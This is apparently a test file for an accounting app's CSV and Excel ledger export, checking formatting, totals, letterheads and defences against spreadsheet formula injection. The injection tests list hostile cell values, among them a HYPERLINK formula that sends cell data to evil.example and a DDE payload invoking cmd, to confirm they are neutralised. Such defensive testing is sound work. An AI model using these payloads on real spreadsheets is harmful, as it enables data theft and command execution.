import ExcelJS from 'exceljs';
import {
  DR_CR_HEADER,
  INR_FORMAT,
  exportFileName,
  toCsv,
  toXlsx,
  totalsOf,
  type ExportSheet,
} from '../../renderer/src/lib/export';
import { sheetWithLetterhead } from '../../shared/print/letterhead';

interface Line {
  date: string;
  name: string;
  debit: number;
  credit: number;
  balance: number;
}

const line = (date: string, name: string, debit: number, credit: number, balance: number): Line => ({
  date,
  name,
  debit,
  credit,
  balance,
});

/** A ledger statement as the screen exports it: opening and closing outside the totals. */
const sheet: ExportSheet<Line> = {
  title: 'Ledger statement - Patil, "Pune"',
  company: 'Sharma Traders',
  period: 'Period: 01-04-2025 to 31-03-2026',
  notes: ['Sundry Debtors'],
  columns: [
    { header: 'Date', kind: 'date', value: (r) => r.date },
    { header: 'Particulars', kind: 'text', value: (r) => r.name },
    { header: 'Debit', kind: 'money', value: (r) => r.debit },
    { header: 'Credit', kind: 'money', value: (r) => r.credit },
    { header: 'Balance', kind: 'drcr', value: (r) => r.balance },
  ],
  leading: [line('2025-04-01', 'Opening balance', 0, 0, 5_000_00)],
  rows: [
    line('2025-04-05', 'विक्री, Sales', 1_23_45_678_90, 0, 1_23_50_678_90),
    line('2026-03-31', 'HDFC Bank A/c (a long bank ledger name)', 0, 1_23_55_678_90, -5_000_00),
  ],
  totals: { label: 'Total' },
  trailing: [line('2026-03-31', 'Closing balance', 0, 0, -5_000_00)],
};

async function readBack(buffer: ArrayBuffer): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(buffer);
  return book.worksheets[0]!;
}

describe('CSV export', () => {
  it('has the title rows, a Dr/Cr column beside signed balances, blanks for nil, totals once', () => {
    const csv = toCsv(sheet);
    const lines = csv.slice(1).split('\r\n');
    expect(csv.startsWith('\uFEFFSharma Traders\r\n')).toBe(true);
    expect(lines[1]).toBe('"Ledger statement - Patil, ""Pune"""');
    expect(lines[2]).toBe('Period: 01-04-2025 to 31-03-2026 · Sundry Debtors');
    expect(lines[4]).toBe(`Date,Particulars,Debit,Credit,Balance,${DR_CR_HEADER}`);
    expect(lines[5]).toBe('01-04-2025,Opening balance,,,5000.00,Dr');
    expect(lines[6]).toBe('05-04-2025,"विक्री, Sales",12345678.90,,12350678.90,Dr');
    expect(lines[7]).toBe('31-03-2026,HDFC Bank A/c (a long bank ledger name),,12355678.90,-5000.00,Cr');
    // Totals are of the lines only: the opening and closing rows are not added in.
    expect(lines[8]).toBe(',Total,12345678.90,12355678.90,,');
    expect(lines[9]).toBe('31-03-2026,Closing balance,,,-5000.00,Cr');
  });

  it('names the file by company, report and period', () => {
    expect(exportFileName(sheet as ExportSheet<unknown>, 'csv')).toBe(
      'Sharma Traders - Ledger statement - Patil, Pune - Period 01-04-2025 to 31-03-2026.csv',
    );
  });
});

describe('Excel export', () => {
  it('writes title rows, a frozen bold header with an autofilter, and widths that fit', async () => {
    const ws = await readBack(await toXlsx(sheet));
    expect(ws.getCell('A1').value).toBe('Sharma Traders');
    expect(ws.getCell('A2').value).toBe('Ledger statement - Patil, "Pune"');
    expect(ws.getCell('A3').value).toBe('Period: 01-04-2025 to 31-03-2026 · Sundry Debtors');
    const header = ws.getRow(5);
    expect(header.values).toEqual([
      undefined,
      'Date',
      'Particulars',
      'Debit',
      'Credit',
      'Balance',
      'Dr/Cr',
      'Balance (Dr +, Cr −)',
    ]);
    expect(header.font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 5 });
    expect(ws.autoFilter).toBe('A5:G5');
    const particulars = ws.getColumn(2).width ?? 0;
    expect(particulars).toBeGreaterThanOrEqual('HDFC Bank A/c (a long bank ledger name)'.length);
    expect(ws.getColumn(3).width ?? 0).toBeGreaterThanOrEqual('1,23,45,678.90'.length);
  });

  it('writes the company’s letterhead (printed name, address, GSTIN) in the title rows of every worksheet', async () => {
    const letterhead = {
      name: 'Sharma Traders Pvt Ltd',
      lines: ['Office 4, Laxmi Road, Pune, Maharashtra - 411030', 'GSTIN: 27AAACS1234F1Z5'],
    };
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(
      await toXlsx(
        sheetWithLetterhead(
          { ...sheet, more: [{ ...sheet, title: 'Second' } as ExportSheet<unknown>] },
          letterhead,
        ),
        { version: '1.2.3' },
      ),
    );
    expect(book.worksheets).toHaveLength(2);
    for (const ws of book.worksheets) {
      expect(ws.getCell('A1').value).toBe('Sharma Traders Pvt Ltd');
      expect(ws.getCell('A2').value).toBe('Office 4, Laxmi Road, Pune, Maharashtra - 411030');
      expect(ws.getCell('A3').value).toBe('GSTIN: 27AAACS1234F1Z5');
      expect(String(ws.getCell('A5').value)).toContain('Period: 01-04-2025 to 31-03-2026');
      expect(String(ws.getCell('A5').value)).toContain('TallyConnect 1.2.3');
      expect(ws.getRow(7).getCell(1).value).toBe('Date');
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 7 });
    }
    expect(book.worksheets[0]!.getCell('A4').value).toBe('Ledger statement - Patil, "Pune"');
    expect(book.worksheets[1]!.getCell('A4').value).toBe('Second');
    // The file keeps the company's own name.
    expect(exportFileName(sheetWithLetterhead(sheet, letterhead) as ExportSheet<unknown>, 'xlsx')).toMatch(
      /^Sharma Traders - /,
    );
    // No letterhead lines: the usual three title rows.
    const plain = await readBack(
      await toXlsx(sheetWithLetterhead(sheet, { name: 'Sharma Traders', lines: [] })),
    );
    expect(plain.getCell('A2').value).toBe('Ledger statement - Patil, "Pune"');
    expect(plain.getRow(5).getCell(1).value).toBe('Date');
  });

  it('writes amounts as numbers with Indian grouping in every amount column, blank where nil', async () => {
    const ws = await readBack(await toXlsx(sheet));
    // exceljs reads the format back without the escapes of the literal commas (the file has them).
    for (const col of [3, 4, 5, 7]) expect(ws.getColumn(col).numFmt).toBe(INR_FORMAT.replace(/\\/g, ''));
    expect(INR_FORMAT).toBe('[>=10000000]##\\,##\\,##\\,##0.00;[>=100000]##\\,##\\,##0.00;##,##0.00');
    const opening = ws.getRow(6);
    expect(opening.getCell(1).value).toEqual(new Date('2025-04-01T00:00:00Z'));
    expect(opening.getCell(3).value).toBeNull();
    expect(opening.getCell(4).value).toBeNull();
    expect(opening.getCell(5).value).toBe(5000);
    expect(opening.getCell(6).value).toBe('Dr');
    const sale = ws.getRow(7);
    expect(sale.getCell(2).value).toBe('विक्री, Sales');
    expect(sale.getCell(3).value).toBe(12345678.9);
    expect(sale.getCell(4).value).toBeNull();
    const receipt = ws.getRow(8);
    expect(receipt.getCell(5).value).toBe(5000);
    expect(receipt.getCell(6).value).toBe('Cr');
    // The balance once more, signed (debit positive), so a formula can add balances up.
    expect(opening.getCell(7).value).toBe(5000);
    expect(receipt.getCell(7).value).toBe(-5000);
  });

  it('has one bold totals row of the lines, then the closing balance', async () => {
    const ws = await readBack(await toXlsx(sheet));
    const totals = ws.getRow(9);
    expect(totals.getCell(2).value).toBe('Total');
    expect(totals.getCell(3).value).toBe(12345678.9);
    expect(totals.getCell(4).value).toBe(12355678.9);
    expect(totals.getCell(5).value).toBeNull();
    expect(totals.font?.bold).toBe(true);
    expect(ws.getRow(10).getCell(2).value).toBe('Closing balance');
    expect(ws.getRow(10).getCell(3).value).toBeNull();
    expect(ws.rowCount).toBe(10);
  });

  it('uses a report’s own totals row where its rows nest, and none where nothing adds up', async () => {
    const nested: ExportSheet<{ name: string; amount: number }> = {
      title: 'Profit & Loss',
      company: 'Sharma Traders',
      period: 'Period: 01-04-2025 to 31-03-2026',
      columns: [
        { header: 'Particulars', kind: 'text', value: (r) => r.name },
        { header: 'Amount', kind: 'money', value: (r) => r.amount },
      ],
      rows: [
        { name: 'Sales Accounts', amount: 10_000_00 },
        { name: '  Sales', amount: 10_000_00 },
      ],
      totals: { row: { name: 'Net profit', amount: -2_500_00 } },
    };
    expect(totalsOf(nested)).toEqual(['Net profit', -2_500_00]);
    const ws = await readBack(await toXlsx(nested));
    expect(ws.getRow(8).getCell(2).value).toBe(-2500);
    expect(totalsOf({ ...nested, totals: null })).toBeNull();
    expect((await readBack(await toXlsx({ ...nested, totals: null }))).rowCount).toBe(7);
  });
});

describe('formula injection (OWASP CSV injection): text from the books never runs in a spreadsheet', () => {
  interface Row {
    name: string;
    qty: number;
    amount: number;
  }
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\uFF1D1+1',
  ];
  const hostileSheet: ExportSheet<Row> = {
    title: '=Title',
    company: '@Company',
    period: '+Period',
    notes: ['-note'],
    columns: [
      { header: '=Particulars', kind: 'text', value: (r) => r.name },
      { header: 'Qty', kind: 'number', value: (r) => r.qty },
      { header: 'Amount', kind: 'money', value: (r) => r.amount },
      { header: 'Balance', kind: 'drcr', value: (r) => r.amount },
    ],
    rows: HOSTILE.map((name, i) => ({ name, qty: -(i + 1), amount: -(i + 1) * 100_50 })),
    totals: { label: 'Total' },
  };

  /** RFC 4180 fields of one CSV line (quoted fields unquoted). */
  const fields = (line: string): string[] => {
    const out: string[] = [];
    let i = 0;
    while (i <= line.length) {
      if (line[i] === '"') {
        let text = '';
        i++;
        for (;;) {
          if (line[i] === '"' && line[i + 1] === '"') {
            text += '"';
            i += 2;
          } else if (line[i] === '"') {
            i++;
            break;
          } else text += line[i++];
        }
        out.push(text);
        i++;
      } else {
        const end = line.indexOf(',', i);
        out.push(line.slice(i, end < 0 ? line.length : end));
        i = end < 0 ? line.length + 1 : end + 1;
      }
    }
    return out;
  };

  it('prefixes every text cell that could start a formula with an apostrophe, titles and headers too', () => {
    const csv = toCsv(hostileSheet).slice(1);
    // Quoted line breaks belong to their cell; split records on CRLF outside quotes.
    const records = csv.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(records[0]).toBe("'@Company");
    expect(records[1]).toBe("'=Title");
    expect(records[2]).toBe("'+Period · -note");
    expect(fields(records[4]!)[0]).toBe("'=Particulars");
    const data = records.slice(5, 5 + HOSTILE.length).map(fields);
    data.forEach((cells, i) => expect(cells[0]).toBe(`'${HOSTILE[i]}`));
    // Every cell that starts with a trigger is an amount or a number the app computed (numeric).
    for (const record of records) {
      for (const cell of fields(record)) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
      }
    }
  });

  it('keeps negative amounts and quantities as plain numerals a spreadsheet reads as numbers', () => {
    const csv = toCsv(hostileSheet).slice(1);
    const first = csv.split('\r\n')[5]!;
    expect(fields(first).slice(1)).toEqual(['-1', '-100.50', '-100.50', 'Cr']);
    expect(csv.split('\r\n')).toContain('Total,,-3618.00,,');
  });

  it('quotes a cell with a semicolon (the list separator of many locales) so it cannot split into a formula', () => {
    const csv = toCsv({ ...hostileSheet, rows: [{ name: 'a;=1+1', qty: 1, amount: 1 }] });
    expect(csv).toContain('"a;=1+1",1,0.01');
  });

  it('writes the same names into .xlsx as plain strings, never as formulas', async () => {
    const ws = await readBack(await toXlsx(hostileSheet));
    expect(ws.getCell('A1').value).toBe('@Company');
    expect(ws.getCell('A2').value).toBe('=Title');
    HOSTILE.forEach((name, i) => {
      const cell = ws.getRow(6 + i).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML reads a carriage return back as a line feed; the text is otherwise what the books hold.
      expect(cell.value).toBe(name.replace(/\r/g, '\n'));
      expect(ws.getRow(6 + i).getCell(3).value).toBe(-(i + 1) * 100.5);
    });
  });
});
